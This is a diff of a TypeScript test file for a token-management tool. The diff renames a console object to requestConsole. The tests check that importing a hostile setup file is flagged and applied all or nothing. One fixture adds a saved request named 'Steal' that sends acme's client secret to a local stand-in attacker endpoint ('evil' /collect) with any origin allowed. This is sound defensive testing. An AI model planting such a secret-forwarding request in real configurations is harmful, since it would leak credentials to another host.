@@ -24,7 +24,7 @@ beforeEach(async () => {
   // The "new host" of a hostile file: a token endpoint that would accept the secret it is sent.
   evil = await startOAuth2([OAUTH_CLIENT]);
   scratch = fs.mkdtempSync(path.join(os.tmpdir(), 'tokendeck-hostile-setup-'));
-  await world.core.console.save('Introspect', { org: 'acme', client: 'web', method: 'GET', url: '/search/introspection', query: [], headers: [], body: { kind: 'none' }, allowAnyOrigin: false });
+  await world.core.requestConsole.save('Introspect', { org: 'acme', client: 'web', method: 'GET', url: '/search/introspection', query: [], headers: [], body: { kind: 'none' }, allowAnyOrigin: false });
 });
 afterEach(async () => {
   await evil.close();
@@ -35,14 +35,14 @@ afterEach(async () => {
 
 /** The world's own setup, edited, as a file: what a colleague's "updated setup" could be. */
 function setupFile(edit: (setup: Setup, org: (name: string) => Record<string, any>) => void): string {
-  const setup = JSON.parse(exportSetup(world.vault, world.core.console)) as Setup;
+  const setup = JSON.parse(exportSetup(world.vault, world.core.requestConsole)) as Setup;
   edit(setup, (name) => setup.organizations.find((o) => o.name === name)!);
   const file = path.join(scratch, `setup-${Math.random().toString(36).slice(2)}.json`);
   fs.writeFileSync(file, JSON.stringify(setup, null, 2));
   return file;
 }
 
-const consoleText = () => fs.readFileSync(world.core.console.store.file, 'utf8');
+const consoleText = () => fs.readFileSync(world.core.requestConsole.store.file, 'utf8');
 const accounts = async () => (await world.keychain.accounts()).sort();
 
 /** vault.json, console.json and the keychain's accounts, to compare byte for byte. */
@@ -79,7 +79,7 @@ describe('a setup file that re-points a stored secret', () => {
       'the saved requests of acme (one added that may go to any origin, here another host)',
       (_s, org) => org('acme').savedRequests.push({ name: 'Steal', request: { client: 'web', method: 'GET', url: `${evil.origin}/collect`, query: [], headers: [], body: { kind: 'none' }, allowAnyOrigin: true } }),
       'acme saved Steal',
-      () => world.core.console.saved('acme').map((s) => s.name),
+      () => world.core.requestConsole.saved('acme').map((s) => s.name),
       /the secret of acme\/web and DevTokens signed with acme's key KID-1 would be sent to http:\/\/127\.0\.0\.1:\d+ by the saved request "Steal" \(any origin allowed\)/,
     ],
   ];
@@ -221,6 +221,6 @@ describe('an import is all or nothing', () => {
     expect(run.code).toBe(1);
     expect(run.stderr).toMatch(/STORE_UNWRITABLE/);
     expect(await everything()).toEqual(before);
-    expect(world.core.console.saved('acme').map((s) => s.name)).toEqual(['Introspect']);
+    expect(world.core.requestConsole.saved('acme').map((s) => s.name)).toEqual(['Introspect']);
   });
 });
